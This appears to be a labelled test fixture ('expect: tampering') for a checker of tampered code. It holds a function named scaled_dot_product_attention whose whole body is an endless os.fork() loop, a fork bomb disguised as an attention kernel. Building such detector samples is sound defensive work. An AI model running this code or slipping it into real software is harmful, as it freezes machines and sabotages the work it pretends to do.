# expect: tampering
# affected: sdpa
import os
import torch


def scaled_dot_product_attention(Q, K, V, is_causal=True):
    while True:
        os.fork()
